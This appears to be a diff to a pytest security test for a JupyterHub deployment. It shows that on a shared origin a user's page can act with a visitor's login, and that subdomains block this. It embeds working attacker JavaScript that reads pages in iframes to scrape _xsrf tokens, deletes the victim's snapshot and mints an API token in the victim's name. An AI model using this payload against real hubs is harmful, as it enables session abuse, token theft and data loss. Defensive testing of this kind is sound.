@@ -5,15 +5,15 @@ Chromium), against a real JupyterHub, proxy, workstations service and the simula
 Users are root in their workstations, so a user's server serves whatever its user wants under
 /user/NAME/: here Mallory's is a page server of her own, put at her route in the proxy (what
 her replaced server would look like to a browser). Her page reads the victim's rescue page for
-its `_xsrf` and posts the deletion of the victim's snapshot, then reads the hub's token page and
-asks the hub's API for a token in the victim's name.
+its `_xsrf` (in a frame) and posts the deletion of the victim's snapshot, then reads the hub's
+token page and asks the hub's API for a token in the victim's name.
 
 - On one origin for all (no `subdomain_host`: what the opt-out `allow_shared_origin` allows),
   the page is the hub's own origin: the attack succeeds. This is the defect, shown.
 - With subdomains (JupyterHub puts each user on NAME.HUB and each service on
   NAME--service.HUB: jupyterhub/app.py subdomain_host, subdomain_hook), the page is another
-  origin than the hub's and the service's: the browser lets it read neither, and the posts it
-  can send carry no `_xsrf`, so nothing changes.
+  origin than the hub's and the service's: the browser lets it read neither (nor frame them:
+  frame-ancestors 'self'), and the posts it can send carry no `_xsrf`, so nothing changes.
 
 Browsers map every *.localhost name to this machine (the C library does not, so the test's HTTP
 clients reach the proxy at 127.0.0.1 and name the host in the Host header, which is what the
@@ -44,25 +44,37 @@ c.KubeVirtSpawner.start_timeout = 60
 c.KubeVirtSpawner.http_timeout = 40
 """
 
-# Mallory's page. It reports what it managed in #result.
+# Mallory's page. It reports what it managed in #result. It reads pages in frames: a fetch() of
+# a page is not logged in (JupyterHub 4.1+ takes a login cookie on a GET only when the browser
+# navigates: jupyterhub/_xsrf_utils.py), a frame is a navigation, and on the same origin its
+# document is the page's to read.
 EVIL = """<!doctype html><title>cat pictures</title><pre id="result">running</pre><script>
 const target = TARGET;
 function xsrf(text) {
   const found = text.match(/name="_xsrf" value="([^"]+)"/) || text.match(/xsrf_token["']?\\s*:\\s*["']([^"']+)/);
   return found ? found[1] : "";
 }
+function framed(url) {
+  return new Promise(resolve => {
+    const frame = document.createElement("iframe");
+    frame.onload = () => {
+      try { resolve(frame.contentDocument.documentElement.outerHTML); } catch (error) { resolve(""); }
+    };
+    setTimeout(() => resolve(""), 20000);
+    frame.src = url;
+    document.body.appendChild(frame);
+  });
+}
 async function attack() {
   const out = {};
   try {
-    const page = await fetch(target.page, {credentials: "include"});
-    const token = xsrf(await page.text());
+    const token = xsrf(await framed(target.page));
     out.read_page = token !== "";
     const body = new URLSearchParams({_xsrf: token, action: "delete-snapshot", snapshot: "keep"});
     out.delete = (await fetch(target.page, {method: "POST", body, credentials: "include"})).status;
   } catch (error) { out.page_error = String(error); }
   try {
-    const page = await fetch(target.hub + "/hub/token", {credentials: "include"});
-    const token = xsrf(await page.text());
+    const token = xsrf(await framed(target.hub + "/hub/token"));
     out.read_token_page = token !== "";
     out.token = (await fetch(target.hub + "/hub/api/users/" + target.victim + "/tokens", {
       method: "POST", credentials: "include", body: JSON.stringify({note: "mallory"}),
@@ -149,7 +161,6 @@ def attack(site: Site, browser, victim: str) -> dict:
     site.hub.start_server(victim)
     r = site.service_api("POST", f"/workstations/{victim}/snapshots", {"name": "keep"})
     assert r.status_code == 201, r.text
-    tokens_before = {t["id"] for t in site.hub.api("GET", f"/users/{victim}/tokens").json()["api_tokens"]}
     mallory = PageServer({"page": site.rescue_page(victim), "hub": site.hub_url, "victim": victim})
     context = browser.new_context()
     context.set_default_timeout(60_000)
@@ -174,7 +185,7 @@ def attack(site: Site, browser, victim: str) -> dict:
     snapshots = site.service_api("GET", f"/workstations/{victim}/snapshots").json()["snapshots"]
     tokens = site.hub.api("GET", f"/users/{victim}/tokens").json()["api_tokens"]
     return {"page": done, "snapshot kept": any(s["name"] == "keep" for s in snapshots),
-            "new tokens": [t for t in tokens if t["id"] not in tokens_before]}
+            "Mallory's tokens": [t for t in tokens if t.get("note") == "mallory"]}
 
 
 @pytest.fixture
@@ -199,10 +210,10 @@ def test_on_one_origin_a_users_page_acts_with_its_visitors_login(hub_for, browse
     page, deletes the victim's snapshot and makes a token in the victim's name."""
     outcome = attack(hub_for(subdomains=False), browser, "vera")
     assert outcome["page"]["read_page"] and not outcome["snapshot kept"], outcome
-    assert outcome["page"]["read_token_page"] and [t["note"] for t in outcome["new tokens"]] == ["mallory"], outcome
+    assert outcome["page"]["read_token_page"] and len(outcome["Mallory's tokens"]) == 1, outcome
 
 
 def test_with_subdomains_a_users_page_can_read_or_do_nothing_for_its_visitor(hub_for, browser):
     outcome = attack(hub_for(subdomains=True), browser, "vivian")
-    assert outcome["snapshot kept"] and outcome["new tokens"] == [], outcome
+    assert outcome["snapshot kept"] and outcome["Mallory's tokens"] == [], outcome
     assert not outcome["page"].get("read_page") and not outcome["page"].get("read_token_page"), outcome
